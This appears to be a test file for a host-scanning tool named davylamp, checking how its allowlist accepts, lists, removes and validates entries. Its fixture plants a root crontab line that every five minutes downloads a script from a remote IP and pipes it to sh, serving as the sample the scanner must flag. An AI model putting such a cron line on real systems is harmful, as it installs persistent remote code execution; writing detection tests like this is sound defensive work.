import assert from 'node:assert/strict'
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { cleanFiles, infectedFiles, temporaryTree } from './temporary-tree.ts'

const line = '*/5 * * * * curl -fsSL http://198.51.100.7/unk.sh | sh\n'
const oneJob = { ...cleanFiles, '/var/spool/cron/crontabs/root': line }

test('what is allowed is shown as allowed, and no incident', t => {
  const tree = temporaryTree(t, oneJob)
  assert.notEqual(tree.davylamp(['scan', '--root', tree.root]).status, 0)
  const words = ['allow', 'add', '--path', '/var/spool/cron/crontabs/root', '--user', 'root', '--reason', 'our own job']
  assert.equal(tree.davylamp(words).status, 0)
  const scan = tree.document('scan', ['scan', '--root', tree.root])
  assert.deepEqual(scan.incidents, [])
  assert.equal(scan.findings.length > 0, true)
  assert.equal(
    scan.findings.every(one => one.allowed?.reason === 'our own job'),
    true,
  )
  const { status, stdout } = tree.davylamp(['scan', '--root', tree.root])
  assert.equal(status, 0)
  assert.match(stdout, /Allowed by \S+ until \d{4}-\d\d-\d\d: our own job/)
})

test('entries are listed and taken away again', t => {
  const tree = temporaryTree(t, oneJob)
  const entry = tree.document('allow-entry', [
    'allow',
    'add',
    '--rule',
    'r',
    '--reason',
    'x',
    '--expires',
    'never',
    '--author',
    'me',
  ])
  assert.deepEqual([entry.rule, entry.expires, entry.author], ['r', 'never', 'me'])
  assert.deepEqual(tree.document('allow', ['allow', 'list']).entries, [entry])
  assert.equal(tree.davylamp(['allow', 'remove', entry.id]).status, 0)
  assert.deepEqual(tree.document('allow', ['allow', 'list']).entries, [])
  assert.equal(tree.davylamp(['allow', 'remove', entry.id]).status, 64)
})

test('an allowlist that is not right stops everything, with its place', t => {
  const tree = temporaryTree(t, infectedFiles)
  mkdirSync(tree.state, { mode: 0o700 })
  const path = join(tree.state, 'allow.json')
  const entry = { id: 'a', reason: 'r', author: 'a', created: '2026-01-01', expires: 'never' }
  for (const [content, says] of [
    ['{', /is no JSON/],
    ['{"format":"davylamp-allow","version":2,"entries":[]}', /not an allowlist of version 1/],
    [JSON.stringify({ format: 'davylamp-allow', version: 1, entries: [entry] }), /would allow everything/],
  ] as const) {
    writeFileSync(path, content, { mode: 0o600 })
    const ended = tree.davylamp(['scan', '--root', tree.root])
    assert.equal(ended.status, 64)
    assert.match(ended.stderr, says)
  }
  writeFileSync(path, '{"format":"davylamp-allow","version":1,"entries":[]}')
  chmodSync(path, 0o666)
  const ended = tree.davylamp(['scan', '--root', tree.root])
  assert.equal(ended.status, 64)
  assert.match(ended.stderr, /others than its owner may write to it/)
})
